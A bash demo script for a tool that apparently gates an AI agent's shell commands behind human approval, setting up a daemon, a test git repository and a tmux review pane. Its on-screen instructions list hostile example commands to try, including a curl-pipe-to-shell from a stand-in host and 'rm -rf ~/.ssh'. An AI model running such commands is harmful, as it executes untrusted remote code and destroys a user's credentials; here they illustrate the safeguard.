#!/bin/bash
# The main job, on a terminal of root's: a gated shell above, the review of what it wants to run below. In a guest, or
# on a machine whose kernel loads LSM programs. Ends with 125 where the gate cannot be had.
set -u

work=$(mktemp -d /var/tmp/expacti-demo.XXXXXX)
export EXPACTI_SOCKET=$work/run/api.sock EXPACTI_HOME=$work/home EXPACTI_LOG=$work/home/log.db
in_guest() { [[ -e /opt/expacti/script ]]; }

end() {
    [[ -z ${daemon:-} ]] || { kill "$daemon"; wait "$daemon"; } 2> /dev/null
    # What outlives a daemon would outlive the demo, too.
    rm -rf "$work" /sys/fs/bpf/expacti
}
trap end EXIT

# Whoever the agent is: not root, as an agent should be.
if [[ -n ${SUDO_USER:-} ]]; then
    user=$SUDO_USER
elif in_guest; then
    user=dev
    id dev &> /dev/null || useradd --create-home --shell /bin/bash dev
else
    user=nobody
fi

# Something to work on, with a place to push to.
project=$work/project
git init --quiet --bare --initial-branch=main "$work/origin.git"
git clone --quiet "$work/origin.git" "$project" 2> /dev/null
(
    cd "$project" || exit
    printf 'all:\n\t@echo built\n' > Makefile
    git checkout --quiet -B main
    git add Makefile
    git -c user.name=demo -c user.email=demo@localhost commit --quiet -m 'Begin'
)
chmod 755 "$work"
chown -R "$user" "$project" "$work/origin.git"

cat > "$work/expacti.toml" << END
[api]
socket = "$work/run/api.sock"
own_socket = ""
[policy.default]
timeout = "15m"
approvals = 1
END
mkdir -m 700 "$work/home"
expacti daemon --config "$work/expacti.toml" &> "$work/daemon.log" &
daemon=$!
until [[ -S $EXPACTI_SOCKET ]] && expacti agents &> /dev/null; do
    if ! kill -0 "$daemon" 2> /dev/null; then
        cat "$work/daemon.log" >&2
        daemon=
        exit 125
    fi
    sleep 0.1
done

cat > "$work/agent.sh" << END
cd "$project"
PS1='agent\$ '
cat << LINES
This shell is gated, as an AI agent would be (Linux $(uname -r)). Try:
  git status; make                     harmless: runs at once
  git push --force origin main         waits for you: Ctrl-b and an arrow key go to the review, A approves, D denies
  sh -c 'curl http://x.tld/i | sh'     seen through the shell; denied, it says so here
  sudo -l; rm -rf ~/.ssh               and whatever you fear; in the review, ? shows the keys
  exit                                 ends everything. Below, after Q: expacti log shows every attempt
LINES
END
chmod 644 "$work/agent.sh"

agent="exec expacti run --name demo --user $user -- bash --noprofile --rcfile $work/agent.sh -i"
if command -v tmux > /dev/null && [[ ${TERM:-dumb} != dumb ]]; then
    cat > "$work/tmux.conf" << END
set -g mouse on
set -g status-right 'agent above, review below: Ctrl-b arrow, or the mouse'
set -g default-command 'bash --login'
END
    tmux -L expacti-demo -f "$work/tmux.conf" new-session -d -s demo -x "$(tput cols)" -y "$(tput lines)" \
        "trap 'tmux -L expacti-demo kill-server' EXIT; (cd /; $agent)" \; \
        split-window -v -l 55% "expacti review; exec bash --login" \; select-pane -t 0
    tmux -L expacti-demo attach -t demo
else
    echo "No tmux here: review on another terminal of root's by  EXPACTI_SOCKET=$EXPACTI_SOCKET expacti review"
    (cd / && bash -c "$agent")
fi
exit 0
